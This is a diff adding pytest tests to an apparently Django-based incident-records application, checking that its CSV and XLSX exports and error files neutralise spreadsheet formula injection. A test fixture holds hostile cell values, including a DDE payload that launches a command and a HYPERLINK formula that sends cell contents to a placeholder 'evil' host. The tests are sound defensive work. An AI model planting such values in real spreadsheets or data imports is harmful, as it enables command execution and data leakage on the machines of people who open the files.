@@ -1,7 +1,9 @@
 """Spreadsheet imports: what the review of issue 7 found (protected people, restricted cases,
 retraction, formulas, broken files, perpetrators, partial files)."""
 
+import csv
 import datetime
+import io
 
 import pytest
 
@@ -174,3 +176,55 @@ def test_the_preview_does_not_count_duplicates_of_what_the_importer_may_not_see(
     assert DuplicatePair.objects.count() == 1
     assert DuplicatePair.objects.visible_to(documentalist).count() == 0
     assert DuplicatePair.objects.visible_to(coordinator).count() == 1
+
+
+# 4. Formulas ---------------------------------------------------------------------------------
+
+
+FORMULAS = row(
+    referencia="=1+1",
+    victima="",
+    tipo_victima="",
+    organizacion_victima="=cmd|' /C calc'!A0",
+    perpetrador='=HYPERLINK("http://evil/?"&A1)',
+    categoria_perpetrador="colectivo",
+    municipio="+SUM(1,2)",
+    descripcion="@SUM(A1)",
+    caso="-2+3",
+    fuente_medio="=1",
+    fuente_url="",
+)
+
+
+def test_exports_never_hold_a_formula_and_read_back_the_same(reviewer):
+    from openpyxl import load_workbook
+
+    batch, _plan = services.import_batch_prepare(
+        user=reviewer, data=as_csv([FORMULAS]), file_name="x.csv", case_status="in_review"
+    )
+    services.import_batch_run(batch=batch, user=reviewer)
+    exported = imports.export_rows(Incident.objects.all())
+
+    text = imports.as_csv(exported).decode("utf-8-sig")
+    for cell in next(csv.reader(io.StringIO(text.split("\n", 1)[1]))):
+        assert not cell.startswith(("=", "+", "-", "@")), cell
+    assert "'=cmd|' /C calc'!A0" in text
+    xlsx = imports.as_xlsx(exported)
+    sheet = load_workbook(io.BytesIO(xlsx)).worksheets[0]
+    assert "f" not in {cell.data_type for line in sheet.iter_rows() for cell in line}
+
+    for data, name in ((text.encode(), "export.csv"), (xlsx, "export.xlsx")):
+        batch, plan = services.import_batch_prepare(
+            user=reviewer, data=data, file_name=name, origin="export", case_status="in_review"
+        )
+        assert [r.action for r in plan.rows] == ["unchanged"], plan.rows[0].errors
+    incident = Incident.objects.get()
+    assert incident.organization.name == "=cmd|' /C calc'!A0"
+    assert incident.description == "@SUM(A1)"
+
+
+def test_the_error_file_holds_no_formula(reviewer):
+    plan = plan_of(reviewer, [{**FORMULAS, "fecha": "=NOW()"}])
+    text = imports.error_file(plan).decode("utf-8-sig")
+    for line in list(csv.reader(io.StringIO(text)))[1:]:
+        assert not any(cell.startswith(("=", "+", "-", "@")) for cell in line), line
